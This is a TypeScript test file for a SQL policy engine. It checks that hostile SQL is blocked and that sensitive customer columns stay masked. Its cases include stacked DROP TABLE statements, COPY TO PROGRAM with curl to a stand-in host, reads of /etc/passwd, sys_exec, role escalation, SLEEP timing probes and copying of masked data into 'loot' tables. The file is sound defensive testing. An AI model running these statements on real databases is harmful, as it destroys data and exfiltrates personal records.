// End to end: SQL text → lib/sql analyze → evaluate(defaults + demo masking). Every attempt to read a masked
// column must end masked (never partially when computed) or blocked.
import { beforeAll, describe, expect, it } from "vitest";
import { analyze, initSqlParsers } from "../sql/index";
import type { Analysis, Dialect } from "../sql/types";
import { compilePolicy } from "./compile";
import type { Decision, ReasonCode } from "./decision";
import { defaultPolicy } from "./defaults";
import { evaluate } from "./evaluate";
import { context, CUSTOMERS, demoMasking } from "./fixtures";

interface Case {
  readonly sql: string;
  readonly dialect?: Dialect;
  readonly expect: Decision["action"];
  /** For blocks: the reason code. */
  readonly code?: ReasonCode;
  /** For allow/approval: the strategy of each column of the last result ("-" = none). */
  readonly masks?: readonly string[];
  /** Evaluate with the customers catalog. */
  readonly catalog?: boolean;
}

const P = "postgres" as const;
const M = "mysql" as const;

const CASES: readonly Case[] = [
  // Comments and multi-statement texts
  { sql: "SELECT 1; DROP TABLE t", expect: "block", code: "rule_block" },
  { sql: "SELECT 1 /* ; DROP TABLE t */", expect: "allow", masks: ["-"] },
  { sql: "SELECT 1 -- ; DROP TABLE t", expect: "allow", masks: ["-"] },
  { sql: "/* harmless */ DROP TABLE t", expect: "block", code: "rule_block" },
  { sql: "SELECT email FROM customers LIMIT 5; SELECT ssn FROM customers", expect: "allow", masks: ["redact"] },
  { sql: "BEGIN; UPDATE orders SET total = 1 WHERE id = 1; COMMIT", expect: "require_approval" },
  { sql: "SELECT 1; SELECT 2", dialect: M, expect: "allow", masks: ["-"] },
  { sql: "SELECT 1; DROP TABLE t", dialect: M, expect: "block", code: "rule_block" },
  { sql: "SELECT id FROM customers # ; DROP TABLE t", dialect: M, expect: "allow", masks: ["-"] },
  { sql: "SELECT id FROM customers -- x\n; DROP TABLE t", dialect: M, expect: "block", code: "rule_block" },
  { sql: "/*!50000 DROP TABLE t */", dialect: M, expect: "block", code: "rule_block" },
  { sql: "SELECT email FROM customers; DELETE FROM orders", dialect: M, expect: "block", code: "rule_block" },
  // Writes
  { sql: "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d", expect: "block", code: "rule_block" },
  { sql: "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT count(*) FROM d", expect: "require_approval", masks: ["-"] },
  { sql: "EXPLAIN ANALYZE DELETE FROM orders", expect: "block", code: "rule_block" },
  { sql: "EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1", expect: "block", code: "rule_block" },
  { sql: "EXPLAIN ANALYZE UPDATE orders SET total = 0 WHERE id = 1", expect: "require_approval" },
  { sql: "EXPLAIN SELECT * FROM orders", expect: "allow" },
  { sql: "UPDATE orders SET total = 0", expect: "block", code: "rule_block" },
  { sql: "DELETE FROM orders WHERE id = 1", expect: "require_approval" },
  { sql: "DO $$ BEGIN DELETE FROM orders; END $$", expect: "block", code: "rule_block" },
  { sql: "PREPARE p AS DELETE FROM orders", expect: "block", code: "rule_block" },
  { sql: "TRUNCATE orders", expect: "block", code: "rule_block" },
  { sql: "INSERT INTO orders (id, total) VALUES (1, 2) RETURNING *", expect: "require_approval" },
  { sql: "INSERT INTO loot SELECT card_number FROM customers", expect: "block", code: "masked_copy_write" },
  { sql: "CREATE TABLE loot AS SELECT * FROM customers", expect: "block", code: "masked_copy_write" },
  { sql: "CREATE TEMP TABLE loot AS SELECT ssn FROM customers", expect: "block", code: "masked_copy_write" },
  { sql: "SELECT ssn INTO loot FROM customers", expect: "block", code: "masked_copy_write" },
  { sql: "CREATE VIEW loot AS SELECT ssn FROM customers", expect: "block", code: "masked_copy_write" },
  { sql: "UPDATE orders o SET status = c.ssn FROM customers c WHERE c.id = o.customer_id", expect: "block", code: "masked_copy_write" },
  { sql: "INSERT INTO loot SELECT ssn FROM customers", dialect: M, expect: "block", code: "masked_copy_write" },
  { sql: "CREATE TABLE loot AS SELECT ssn FROM customers", dialect: M, expect: "block", code: "masked_copy_write" },
  { sql: "UPDATE customers SET name = ssn WHERE id = 1", expect: "block", code: "masked_copy_write" },
  { sql: "UPDATE customers SET name = 'x' || upper(card_number) WHERE id = 1", expect: "block", code: "masked_copy_write" },
  { sql: "INSERT INTO customers (id, name) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET name = customers.ssn", expect: "block", code: "masked_copy_write" },
  { sql: "UPDATE customers SET name = ssn WHERE id = 1", dialect: M, expect: "block", code: "masked_copy_write" },
  { sql: "INSERT INTO customers (id, name) VALUES (1, 'a') ON DUPLICATE KEY UPDATE name = ssn", dialect: M, expect: "block", code: "masked_copy_write" },
  { sql: "UPDATE customers SET name = 'x' WHERE id = 1", expect: "require_approval" },
  { sql: "UPDATE customers SET name = 'x' WHERE id = 1 RETURNING ssn", expect: "require_approval", masks: ["redact"] },
  { sql: "GRANT SELECT ON customers TO bob", expect: "require_approval" },
  { sql: "VACUUM orders", expect: "require_approval" },
  { sql: "DELETE FROM orders", dialect: M, expect: "block", code: "rule_block" },
  { sql: "UPDATE orders SET total = 0 WHERE id = 1", dialect: M, expect: "require_approval" },
  { sql: "REPLACE INTO orders (id) VALUES (1)", dialect: M, expect: "require_approval" },
  { sql: "DROP TABLE orders", dialect: M, expect: "block", code: "rule_block" },
  { sql: "TRUNCATE TABLE orders", dialect: M, expect: "block", code: "rule_block" },
  // Files, programs, dangerous functions, session identity
  { sql: "COPY customers TO PROGRAM 'curl -d @- http://x'", expect: "block", code: "rule_block" },
  { sql: "COPY (SELECT 1) TO '/tmp/x'", expect: "block", code: "rule_block" },
  { sql: "COPY orders FROM PROGRAM 'id'", expect: "block", code: "rule_block" },
  { sql: "SELECT pg_read_file('/etc/passwd')", expect: "block", code: "rule_block" },
  { sql: "SELECT pg_catalog.pg_read_file('x')", expect: "block", code: "rule_block" },
  { sql: 'SELECT "pg_read_file"(\'x\')', expect: "block", code: "rule_block" },
  { sql: "SELECT lo_import('/etc/passwd')", expect: "block", code: "rule_block" },
  { sql: "SELECT dblink('host=x', 'select 1')", expect: "block", code: "rule_block" },
  { sql: "SELECT query_to_xml('select * from customers', true, true, '')", expect: "block", code: "rule_block" },
  { sql: "SELECT pg_sleep(10)", expect: "block", code: "rule_block" },
  { sql: "SELECT set_config('role', 'postgres', false)", expect: "block", code: "rule_block" },
  { sql: "SET ROLE postgres", expect: "block", code: "rule_block" },
  { sql: "SET SESSION AUTHORIZATION bob", expect: "block", code: "rule_block" },
  { sql: "SELECT * FROM pg_stats WHERE attname = 'ssn'", expect: "block", code: "rule_block" },
  { sql: "SELECT current_setting('search_path')", expect: "allow", masks: ["-"] },
  { sql: "SELECT * FROM customers INTO OUTFILE '/tmp/x'", dialect: M, expect: "block", code: "rule_block" },
  { sql: "SELECT card_number INTO DUMPFILE '/tmp/y' FROM customers", dialect: M, expect: "block", code: "rule_block" },
  { sql: "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", dialect: M, expect: "block", code: "rule_block" },
  { sql: "SELECT LOAD_FILE('/etc/passwd')", dialect: M, expect: "block", code: "rule_block" },
  { sql: "SELECT SLEEP(10)", dialect: M, expect: "block", code: "rule_block" },
  { sql: "DO SLEEP(5)", dialect: M, expect: "block", code: "rule_block" },
  { sql: "SELECT BENCHMARK(1000000, MD5('x'))", dialect: M, expect: "block", code: "rule_block" },
  { sql: "SELECT sys_exec('id')", dialect: M, expect: "block", code: "rule_block" },
  { sql: "SET GLOBAL general_log = 1", dialect: M, expect: "block", code: "rule_block" },
  { sql: "SET @@global.read_only = 0", dialect: M, expect: "block", code: "rule_block" },
  { sql: "SET sql_log_bin = 0", dialect: M, expect: "block", code: "rule_block" },
  { sql: "SET statement_timeout = 0", expect: "allow" },
  { sql: "RESET ROLE", expect: "block", code: "rule_block" },
  { sql: "LOAD 'plpgsql'", expect: "block", code: "rule_block" },
  { sql: "SELECT * FROM mysql.user", dialect: M, expect: "block", code: "rule_block" },
  { sql: "SHOW TABLES", dialect: M, expect: "allow" },
  // Unanalysable
  { sql: "SELEC 1", expect: "require_approval" },
  { sql: "HANDLER customers OPEN", dialect: M, expect: "require_approval" },
  // Masked columns: direct, aliased, through subqueries, CTEs, unions
  { sql: "SELECT id, name FROM customers LIMIT 10", expect: "allow", masks: ["-", "-"] },
  { sql: "SELECT card_number AS cc FROM customers", expect: "allow", masks: ["card"] },
  { sql: "SELECT id, email, ssn FROM public.customers", expect: "allow", masks: ["-", "email", "redact"] },
  { sql: 'SELECT "card_number" FROM "customers"', expect: "allow", masks: ["card"] },
  { sql: "SELECT x FROM (SELECT card_number AS x FROM customers) s", expect: "allow", masks: ["card"] },
  { sql: "WITH s AS (SELECT ssn FROM customers) SELECT ssn FROM s", expect: "allow", masks: ["redact"] },
  { sql: "WITH x AS (SELECT * FROM customers) SELECT card_number FROM x", expect: "allow", masks: ["card"] },
  { sql: "SELECT name FROM customers UNION SELECT ssn FROM customers", expect: "allow", masks: ["redact"] },
  { sql: "SELECT id FROM orders UNION ALL SELECT card_number FROM customers", expect: "allow", masks: ["redact"] },
  { sql: "SELECT (SELECT ssn FROM customers LIMIT 1) AS x", expect: "allow", masks: ["redact"] },
  { sql: "SELECT lateral_x.v FROM customers c, LATERAL (SELECT c.ssn AS v) lateral_x", expect: "allow", masks: ["redact"] },
  { sql: "SELECT c.email FROM customers c JOIN orders o ON o.customer_id = c.id", expect: "allow", masks: ["email"] },
  { sql: "DECLARE c CURSOR FOR SELECT ssn FROM customers", expect: "allow", masks: ["redact"] },
  // Masked columns through expressions: hidden whole
  { sql: "SELECT upper(email) FROM customers", expect: "allow", masks: ["redact"] },
  { sql: "SELECT 'x' || ssn FROM customers", expect: "allow", masks: ["redact"] },
  { sql: "SELECT card_number::text FROM customers c", expect: "allow", masks: ["redact"] },
  { sql: "SELECT substring(card_number from 1 for 12) FROM customers", expect: "allow", masks: ["redact"] },
  { sql: "SELECT json_agg(email) FROM customers", expect: "allow", masks: ["redact"] },
  { sql: "SELECT string_agg(ssn, ',') FROM customers", expect: "allow", masks: ["redact"] },
  { sql: "SELECT jsonb_build_object('c', card_number) FROM customers", expect: "allow", masks: ["redact"] },
  { sql: "SELECT coalesce(ssn, 'none') FROM customers", expect: "allow", masks: ["redact"] },
  { sql: "SELECT md5(ssn) FROM customers", expect: "allow", masks: ["redact"] },
  { sql: "SELECT ROW(ssn, email) FROM customers", expect: "allow", masks: ["redact"] },
  { sql: "SELECT lower(c.email), o.total FROM customers c, orders o", expect: "allow", masks: ["redact", "-"] },
  // Whole rows
  { sql: "SELECT * FROM customers", expect: "block", code: "masked_whole_row" },
  { sql: "TABLE customers", expect: "block", code: "masked_whole_row" },
  { sql: "SELECT * FROM (SELECT * FROM customers) s", expect: "block", code: "masked_whole_row" },
  { sql: "SELECT * FROM customers", catalog: true, expect: "allow", masks: ["-", "-", "email", "card", "-", "redact"] },
  { sql: "SELECT c.*, o.total FROM customers c JOIN orders o ON o.customer_id = c.id", catalog: true, expect: "allow", masks: ["-", "-", "email", "card", "-", "redact", "-"] },
  { sql: "SELECT o.* FROM orders o JOIN customers c ON c.id = o.customer_id", expect: "allow" },
  { sql: "SELECT row_to_json(c) FROM customers c", expect: "allow", masks: ["redact"] },
  { sql: "SELECT to_jsonb(c.*) FROM customers c", expect: "allow", masks: ["redact"] },
  { sql: "SELECT c FROM customers c", expect: "allow", masks: ["redact"] },
  { sql: "SELECT (c).ssn FROM customers c", expect: "allow", masks: ["redact"] },
  { sql: "SELECT array_agg(c) FROM customers c", catalog: true, expect: "allow", masks: ["redact"] },
  { sql: "COPY customers TO STDOUT", expect: "block", code: "masked_copy" },
  { sql: "COPY (SELECT id, name FROM customers) TO STDOUT", expect: "allow" },
  // Probing masked columns through predicates
  { sql: "SELECT id FROM customers WHERE card_number LIKE '4%'", expect: "block", code: "masked_predicate" },
  { sql: "SELECT id FROM customers WHERE card_number ~ '^4'", expect: "block", code: "masked_predicate" },
  { sql: "SELECT id FROM customers ORDER BY ssn", expect: "block", code: "masked_predicate" },
  { sql: "SELECT count(*) FROM customers WHERE ssn = '123-45-6789'", expect: "block", code: "masked_predicate" },
  { sql: "SELECT id FROM customers c WHERE c::text LIKE '%4242%'", expect: "block", code: "masked_predicate" },
  { sql: "SELECT id FROM customers WHERE EXISTS (SELECT 1 FROM orders o WHERE o.note = customers.ssn)", expect: "block", code: "masked_predicate" },
  { sql: "EXPLAIN ANALYZE SELECT id FROM customers WHERE ssn = '1'", expect: "block", code: "masked_predicate" },
  { sql: "SELECT id FROM customers WHERE email LIKE '%@x.com'", dialect: M, expect: "block", code: "masked_predicate" },
  { sql: "SELECT id FROM customers ORDER BY card_number", dialect: M, expect: "block", code: "masked_predicate" },
  // MySQL spellings
  { sql: "SELECT `card_number` FROM `customers`", dialect: M, expect: "allow", masks: ["card"] },
  { sql: "SELECT `ssn` AS `s` FROM `shop`.`customers`", dialect: M, expect: "allow", masks: ["redact"] },
  { sql: "SELECT customers.card_number FROM customers", dialect: M, expect: "allow", masks: ["card"] },
  { sql: "SELECT /*!50000 card_number */ FROM customers", dialect: M, expect: "allow", masks: ["card"] },
  { sql: "SELECT id FROM customers WHERE id = 1 /*! UNION SELECT ssn FROM customers */", dialect: M, expect: "allow", masks: ["redact"] },
  { sql: "SELECT GROUP_CONCAT(ssn) FROM customers", dialect: M, expect: "allow", masks: ["redact"] },
  { sql: "SELECT CONCAT(name, email) FROM customers", dialect: M, expect: "allow", masks: ["redact"] },
  { sql: "SELECT UPPER(card_number) FROM customers", dialect: M, expect: "allow", masks: ["redact"] },
  { sql: "SELECT SUBSTRING(ssn, 1, 3) FROM customers", dialect: M, expect: "allow", masks: ["redact"] },
  { sql: "SELECT CAST(card_number AS CHAR) FROM customers", dialect: M, expect: "allow", masks: ["redact"] },
  { sql: "SELECT HEX(ssn) FROM customers", dialect: M, expect: "allow", masks: ["redact"] },
  { sql: "SELECT JSON_OBJECT('c', card_number) FROM customers", dialect: M, expect: "allow", masks: ["redact"] },
  { sql: "SELECT x FROM (SELECT email AS x FROM customers) s", dialect: M, expect: "allow", masks: ["email"] },
  { sql: "SELECT c.* FROM customers c", dialect: M, expect: "block", code: "masked_whole_row" },
  { sql: "SELECT * FROM customers", dialect: M, catalog: true, expect: "allow", masks: ["-", "-", "email", "card", "-", "redact"] },
  // MySQL user variables would launder values past masking
  { sql: "SELECT @x := ssn FROM customers", dialect: M, expect: "block", code: "masked_variable" },
  { sql: "SELECT ssn INTO @x FROM customers LIMIT 1", dialect: M, expect: "block", code: "masked_variable" },
  { sql: "SET @x = (SELECT ssn FROM customers LIMIT 1)", dialect: M, expect: "block", code: "masked_variable" },
  { sql: "SELECT id INTO @x FROM orders LIMIT 1", dialect: M, expect: "allow" },
];

const compiled = compilePolicy([defaultPolicy(), demoMasking()]);
const MASKED = new Set(["card_number", "ssn", "email"]);

function run(c: Case): { analysis: Analysis; decision: Decision } {
  const dialect = c.dialect ?? P;
  const analysis = analyze(c.sql, dialect);
  const decision = evaluate(compiled, analysis, context({ dialect, ...(c.catalog ? { catalog: CUSTOMERS } : {}) }));
  return { analysis, decision };
}

const isMaskedTable = (t: string) => t === "customers" || t.endsWith(".customers");

describe("decisions corpus (analyze → evaluate)", () => {
  beforeAll(async () => {
    await initSqlParsers();
  });

  it("has at least 60 texts in both dialects", () => {
    expect(CASES.length).toBeGreaterThanOrEqual(60);
    expect(CASES.filter((c) => c.dialect === M).length).toBeGreaterThanOrEqual(20);
  });

  it.each(CASES.map((c) => [`${c.dialect ?? P}: ${c.sql}`, c] as const))("%s", (_, c) => {
    const { decision } = run(c);
    const detail = decision.action === "block" ? `${decision.code}: ${decision.message}` : decision.masking.columns.map((x) => x.strategy?.kind ?? "-").join(",");
    expect(`${decision.action} ${detail}`).toMatch(new RegExp(`^${c.expect}`));
    if (c.code !== undefined && decision.action === "block") expect(decision.code).toBe(c.code);
    if (c.masks !== undefined && decision.action !== "block") expect(decision.masking.columns.map((x) => x.strategy?.kind ?? "-")).toEqual(c.masks);
  });

  it("every read of a masked column is masked (fully when computed) or blocked", () => {
    for (const c of CASES) {
      const { analysis, decision } = run(c);
      if (decision.action === "block") continue;
      analysis.statements.forEach((s, i) => {
        const plan = decision.maskingByStatement[i];
        const stars = s.outputColumns.some((o) => o.name === "*" || o.name.endsWith(".*"));
        if (stars) {
          // Expanded from the catalog (only customers is in it): every masked column carries a strategy.
          for (const col of plan.columns) if (MASKED.has(col.name)) expect(col.strategy, `${c.sql}: ${col.name}`).not.toBeNull();
          return;
        }
        s.outputColumns.forEach((o, k) => {
          const touches = o.sources.some((x) => isMaskedTable(x.table) && (MASKED.has(x.column) || x.column === "*"));
          if (!touches || s.kind === "copy") return;
          const col = plan.columns[k];
          expect(col?.strategy, `${c.sql} column ${k}`).not.toBeNull();
          if (!o.direct) expect(["redact", "null"], `${c.sql} column ${k}`).toContain(col.strategy?.kind);
        });
      });
    }
  });

  it("is deterministic across runs", () => {
    for (const c of CASES.slice(0, 20)) expect(JSON.stringify(run(c).decision)).toBe(JSON.stringify(run(c).decision));
  });
});
